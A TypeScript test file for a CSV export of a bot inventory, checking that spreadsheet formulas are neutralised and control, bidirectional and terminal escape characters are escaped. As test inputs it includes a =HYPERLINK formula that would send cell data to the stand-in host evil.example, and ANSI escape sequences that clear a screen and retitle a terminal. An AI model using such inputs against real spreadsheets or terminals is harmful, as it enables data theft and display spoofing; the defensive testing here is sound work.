import { rowsCsv } from './inventoryOutput';
import type { InventoryRow } from './inventoryRows';

const row = (more: Partial<InventoryRow>): InventoryRow => ({
  id: 'gatehouse-managed:1',
  source: 'gatehouse-managed',
  subject: 'bot',
  definedAt: 'database',
  usageRecorded: true,
  builtIn: false,
  status: 'active',
  ...more,
});

describe('inventory output', () => {
  it('writes CSV that a spreadsheet reads as text: quoted separators, no formulas', () => {
    const csv = rowsCsv([
      row({ description: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
      row({ description: 'deploys, "carefully"\nand twice' }),
      row({ description: '@SUM(1)' }),
      row({ description: '-2+3' }),
    ]);
    const descriptions = csv
      .split('\r\n')
      .slice(1, -1)
      .map(line => line.split(',')[4]);
    expect(descriptions[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    // The line break escaped too: a cell never spans lines (see below).
    expect(csv).toContain('"deploys, ""carefully""\\u{a}and twice"');
    expect(csv).toContain(",'@SUM(1),");
    expect(csv).toContain(",'-2+3,");
  });

  it('escapes control and format characters in every cell, keeping CRLF between rows', () => {
    const csv = rowsCsv([
      row({
        subject: 'bot\u202e',
        description:
          '\u001b[2J\u001b]0;pwned\u0007\u009b31mfake\u200b\r\nline\u2028',
        usage: {
          lastUsedBy: '\u001b[31mred',
          uses24h: 0,
          uses30d: 0,
          lastRejection: { reason: '=1+1\u0085', at: 0 },
        },
      }),
      row({ description: '\tstarts with a tab' }),
    ]);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    for (const line of lines) {
      expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
    }
    expect(lines[1]).toContain(
      ',bot\\u{202e},\\u{1b}[2J\\u{1b}]0;pwned\\u{7}\\u{9b}31mfake\\u{200b}\\u{d}\\u{a}line\\u{2028},',
    );
    expect(lines[1]).toContain(',\\u{1b}[31mred,');
    // Formula neutralisation first, on the text as it came.
    expect(lines[1]).toContain(",'=1+1\\u{85},");
    expect(lines[2]).toContain(",'\\u{9}starts with a tab,");
  });

  it('writes restrictions in the words of the page and the form', () => {
    const csv = (accessRestrictions: InventoryRow['accessRestrictions']) =>
      rowsCsv([row({ accessRestrictions })]).split('\r\n')[1];
    expect(csv(undefined)).toContain(',every plugin,');
    expect(
      csv([
        {
          plugin: 'catalog',
          permission: ['catalog.entity.read'],
          permissionAttribute: { action: ['read'] },
        },
        { plugin: 'search' },
      ]),
    ).toContain(',catalog: catalog.entity.read (read); search: everything,');
  });
});
